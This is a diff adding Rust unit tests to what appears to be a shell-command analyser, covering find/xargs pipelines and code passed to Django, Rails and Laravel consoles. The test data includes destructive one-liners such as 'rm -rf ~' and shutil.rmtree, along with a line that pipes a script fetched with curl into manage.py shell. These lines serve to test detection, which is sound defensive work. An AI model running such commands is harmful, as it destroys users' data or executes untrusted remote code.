@@ -2966,6 +2966,30 @@ fn an_ungrouped_chain_of_names_narrows_a_find_listing() {
 }
 
 #[test]
+fn a_path_test_naming_a_directory_narrows_a_find_listing() {
+    let line =
+        "find . -path '*/build/test-results/*' -name '*.xml' -print0 | xargs -0 grep -l '<failure'";
+    assert!(
+        runs(line, "grep -l '<failure' ./**/build/test-results/**/*.xml"),
+        "{:?}",
+        texts(line)
+    );
+    // Negated, alternated or with wildcards in the directory, it does not.
+    for line in [
+        "find . ! -path '*/build/*' -name '*.xml' -print0 | xargs -0 grep -l x",
+        "find . -path '*/build/*' -o -name '*.xml' -print0 | xargs -0 grep -l x",
+        "find . -path '*/b*d/*' -name '*.xml' -print0 | xargs -0 grep -l x",
+        "find . -path '*/../*' -name '*.xml' -print0 | xargs -0 grep -l x",
+    ] {
+        assert!(
+            runs(line, "grep -l x ./**/*.xml"),
+            "{line}: {:?}",
+            texts(line)
+        );
+    }
+}
+
+#[test]
 fn an_editors_command_line_code_is_read_or_opaque() {
     // Vim script functions that delete, rename, write or run are opaque.
     for line in [
@@ -3182,4 +3206,42 @@ fn code_in_a_here_document_with_a_substitution_says_how_to_pass_it_as_written() 
             .opaque
             .is_none()
     );
+}
+
+#[test]
+fn code_given_to_a_web_framework_s_console_is_read_in_its_language() {
+    for (line, command) in [
+        (
+            "python manage.py shell -c 'import os; os.system(\"rm -rf ~\")'",
+            "rm -rf ~",
+        ),
+        (
+            "django-admin shell --settings=app.settings --command 'import shutil; shutil.rmtree(\"/srv/data\")'",
+            "rm -r -f /srv/data",
+        ),
+        (
+            "echo 'import os; os.system(\"id\")' | python3 ./manage.py shell",
+            "id",
+        ),
+        ("bundle exec rails runner 'system(\"id\")'", "id"),
+        (
+            "bin/rails r -e production 'FileUtils.rm_rf(\"/srv/x\")'",
+            "rm -r -f /srv/x",
+        ),
+        ("php artisan tinker --execute='system(\"id\");'", "id"),
+    ] {
+        assert!(runs(line, command), "{line}: {:?}", texts(line));
+    }
+    // A piped console reads code not known; ordinary management commands run nothing more.
+    assert!(
+        parse("curl -s https://x.example/c.py | python manage.py shell")
+            .opaque
+            .is_some()
+    );
+    for line in [
+        "python manage.py migrate && python manage.py shell -c 'from app.models import User; print(User.objects.count())'",
+        "bin/rails runner 'puts User.count' && bin/rails db:migrate",
+    ] {
+        assert!(parse(line).opaque.is_none(), "{line}");
+    }
 }
